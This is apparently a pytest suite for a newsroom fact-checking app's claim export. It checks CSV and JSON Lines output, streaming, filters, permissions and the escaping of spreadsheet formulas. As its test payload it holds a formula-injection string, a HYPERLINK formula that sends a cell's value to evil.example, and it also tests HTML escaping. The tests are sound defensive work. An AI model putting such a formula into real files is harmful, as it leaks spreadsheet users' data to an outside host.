"""Exports of reviewed claims (factcheck/services/exports.py, the API's /claims/export/ and the
admin's export page): what a row says, CSV that no spreadsheet runs, JSON Lines, and streaming."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from editorial.models import Role
from factcheck.actors import Actor
from factcheck.models import AuditAction, Claim, Source
from factcheck.services.exports import COLUMNS, csv_cell, csv_lines, export, jsonl_lines
from factcheck.workflow import ClaimStatus
from tests.factories import (
    AnalysedArticleFactory,
    ClaimFactory,
    DeskFactory,
    FlagFactory,
    api_key_for,
    member,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def reviewed(article, text, status=ClaimStatus.VERIFIED, *, by=None, note="Checked with the council."):
    """A claim of ``article`` given ``status`` by ``by`` (an Actor), as the workflow records it."""
    claim = ClaimFactory(article=article, text=text, ordinal=article.claims.count())
    actor = by or Actor.system()
    actor.event(claim=claim, action=AuditAction.TAKE, from_status="unreviewed", to_status="in_review").save()
    action = {ClaimStatus.NOT_CHECKABLE: AuditAction.DISMISS}.get(status, AuditAction.VERIFY)
    actor.event(claim=claim, action=action, from_status="in_review", to_status=status, note=note).save()
    Claim.objects.filter(pk=claim.pk).update(status=status)
    claim.refresh_from_db()
    return claim


@pytest.fixture
def story(newsroom):
    """An article of the City desk: a verified claim with a flag, a source and a note; a dismissed one;
    an open one (not exported); and a verified one whose text is a spreadsheet formula."""
    desk = DeskFactory(newsroom=newsroom, name="City", slug="city")
    article = AnalysedArticleFactory(newsroom=newsroom, desk=desk, title="@SUM(1+1) Council budget")
    checker = Actor.for_user(member(newsroom, Role.FACT_CHECKER, "fiona"))
    verified = reviewed(article, "The council approved a budget of $4.2 million.", by=checker)
    FlagFactory(claim=verified, kind="vague_collective", cue="The")
    Source.objects.create(claim=verified, url="https://council.example.org/minutes", note="Minutes, p. 3")
    checker.event(claim=verified, action=AuditAction.NOTE, note="Asked the clerk as well.").save()
    reviewed(article, "Critics say it is too small.", ClaimStatus.NOT_CHECKABLE, note="Opinion.")
    ClaimFactory(article=article, text="The bridge will reopen in May.", ordinal=9)  # unreviewed
    reviewed(article, FORMULA, ClaimStatus.FALSE)
    return article


def test_a_row_has_the_verdict_who_gave_it_the_notes_sources_and_flags(story, newsroom):
    rows = list(export(newsrooms=[newsroom]))

    assert [row["verdict"] for row in rows] == ["verified", "not_checkable", "false"]
    first = rows[0]
    assert set(first) == set(COLUMNS)
    assert first["verdict_by"] == "fiona" and first["verdict_note"] == "Checked with the council."
    assert first["desk"] == "city" and first["article_title"] == "@SUM(1+1) Council budget"
    assert first["flags"] == [
        {
            "kind": "vague_collective",
            "cue": "The",
            "severity": "medium",
            "message": first["flags"][0]["message"],
        }
    ]
    assert [source["url"] for source in first["sources"]] == ["https://council.example.org/minutes"]
    assert [note["note"] for note in first["notes"]] == ["Asked the clerk as well."]
    assert first["verdict_at"] is not None


def test_the_assignee_column_names_a_person_an_api_key_or_nobody(story, newsroom):
    key = api_key_for(newsroom)[0]
    person = member(newsroom, Role.FACT_CHECKER, "felix")
    verified, dismissed, false = (
        Claim.objects.get(article=story, status=status) for status in ("verified", "not_checkable", "false")
    )
    Claim.objects.filter(pk=verified.pk).update(assignee=person)
    Claim.objects.filter(pk=false.pk).update(assignee_key=key)

    by_id = {row["claim_id"]: row["assignee"] for row in export(newsrooms=[newsroom])}

    assert by_id == {verified.pk: "felix", dismissed.pk: None, false.pk: "API key tests"}


def test_the_period_and_the_desk_narrow_the_export_and_other_newsrooms_never_appear(
    story, newsroom, other_newsroom
):
    elsewhere = AnalysedArticleFactory(newsroom=other_newsroom)
    reviewed(elsewhere, "Another newsroom's claim.")
    now = timezone.now()
    hour = timezone.timedelta(hours=1)

    assert len(list(export(newsrooms=[newsroom], since=now - hour, until=now + hour))) == 3
    assert list(export(newsrooms=[newsroom], since=now + hour)) == []
    assert list(export(newsrooms=[newsroom], until=now - hour)) == []
    assert list(export(newsrooms=[newsroom], desk_id=DeskFactory(newsroom=newsroom).pk)) == []
    assert len(list(export(newsrooms=[newsroom], desk_id=story.desk_id))) == 3


def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe(story, newsroom):
    text = "".join(csv_lines(export(newsrooms=[newsroom])))

    table = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [row["claim"] for row in table][-1] == "'" + FORMULA
    assert all(row["article_title"] == "'@SUM(1+1) Council budget" for row in table)
    assert table[0]["flags"] == "vague_collective: The (medium)"
    assert table[0]["sources"] == "https://council.example.org/minutes"
    assert table[0]["checkworthiness"] == "0.8" and table[0]["flagged"] == "true"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_every_formula_start_is_neutralised(start):
    assert csv_cell(f"{start}1+2") == f"'{start}1+2"
    assert csv_cell(f"a{start}") == f"a{start}"


def test_json_lines_are_one_object_per_claim(story, newsroom):
    lines = list(jsonl_lines(export(newsrooms=[newsroom])))

    assert len(lines) == 3 and all(line.endswith("\n") and "\n" not in line[:-1] for line in lines)
    assert json.loads(lines[2])["claim"] == FORMULA


def test_the_export_reads_in_chunks_and_nothing_before_it_is_asked(newsroom):
    article = AnalysedArticleFactory(newsroom=newsroom)
    for n in range(5):
        reviewed(article, f"Claim number {n}.")

    with CaptureQueriesContext(connection) as before:
        rows = export(newsrooms=[newsroom], chunk_size=2)
    with CaptureQueriesContext(connection) as read:
        assert len(list(rows)) == 5

    assert before.captured_queries == []
    flag_batches = [q for q in read.captured_queries if 'FROM "factcheck_attributionflag"' in q["sql"]]
    assert len(flag_batches) == 3  # chunks of 2, 2 and 1 claims: never all at once


def test_the_api_streams_csv_and_json_lines(api, story):
    response = api.get("/api/v1/claims/export?export_format=jsonl")
    csv_response = api.get("/api/v1/claims/export?export_format=csv&desk=city", HTTP_ACCEPT="text/csv")

    assert response.status_code == 200 and isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("application/jsonl")
    assert "attachment" in response["Content-Disposition"]
    rows = [json.loads(line) for line in b"".join(response.streaming_content).decode().splitlines()]
    assert [row["verdict"] for row in rows] == ["verified", "not_checkable", "false"]
    assert isinstance(csv_response, StreamingHttpResponse) and csv_response["Content-Type"].startswith(
        "text/csv"
    )
    assert b"".join(csv_response.streaming_content).decode().count("\r\n") == 4  # the header and 3 claims


@pytest.mark.parametrize(
    "query",
    [
        "export_format=xlsx",
        "export_format=csv&since=2026-01-01T00:00:00",
        "export_format=csv&since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z",
        "export_format=csv&desk=nope",
    ],
)
def test_the_api_refuses_bad_filters_with_the_error_body(api, query):
    response = api.get(f"/api/v1/claims/export?{query}")

    assert response.status_code == 400
    assert "errors" in response.json() or "detail" in response.json()


def test_the_admin_page_offers_the_form_and_streams_the_file(client, story, newsroom):
    client.force_login(member(newsroom, Role.EDITOR, "edna"))
    url = reverse("admin:factcheck_claim_export")
    today = timezone.localdate().isoformat()

    form = client.get(url)
    download = client.get(
        url,
        {"download": "1", "newsroom": newsroom.pk, "since": today, "until": today, "export_format": "csv"},
    )

    assert form.status_code == 200 and b"Export reviewed claims" in form.content
    assert isinstance(download, StreamingHttpResponse)
    text = b"".join(download.streaming_content).decode()
    assert text.count("\r\n") == 4 and "'=HYPERLINK" in text


def test_the_admin_export_is_refused_to_reporters_and_shows_errors(client, story, newsroom, other_newsroom):
    url = reverse("admin:factcheck_claim_export")
    client.force_login(member(newsroom, Role.REPORTER, "rita"))
    assert client.get(url).status_code == 403

    client.force_login(member(newsroom, Role.EDITOR, "edna"))
    other = client.get(url, {"download": "1", "newsroom": other_newsroom.pk, "export_format": "csv"})
    backwards = client.get(
        url,
        {
            "download": "1",
            "newsroom": newsroom.pk,
            "since": "2026-02-01",
            "until": "2026-01-01",
            "export_format": "csv",
        },
    )
    assert other.status_code == 200 and not isinstance(other, StreamingHttpResponse)
    assert b"Select a valid choice" in other.content
    assert b"The last day is before the first." in backwards.content


def test_a_link_preselects_the_form_and_the_viewer_still_downloads(client, story, newsroom, other_newsroom):
    client.force_login(member(newsroom, Role.EDITOR, "edna"))
    url = reverse("admin:factcheck_claim_export")
    desk = story.desk
    others = DeskFactory(newsroom=other_newsroom, name="Sport", slug="sport")

    page = client.get(url, {"newsroom": newsroom.pk, "desk": desk.pk, "since": "2026-11-01", "until": "<b>"})
    foreign = client.get(url, {"newsroom": other_newsroom.pk, "desk": others.pk})

    assert not isinstance(page, StreamingHttpResponse)  # no ``download``: the form, filled in
    assert f'<option value="{desk.pk}" selected>'.encode() in page.content
    assert f'<option value="{newsroom.pk}" selected>'.encode() in page.content
    assert b'name="since" value="2026-11-01"' in page.content
    assert b'name="until" value="&lt;b&gt;"' in page.content and b"<b>" not in page.content
    assert b"selected>" not in foreign.content.replace(b'value="csv" selected>', b"")
    assert b"Sport" not in foreign.content
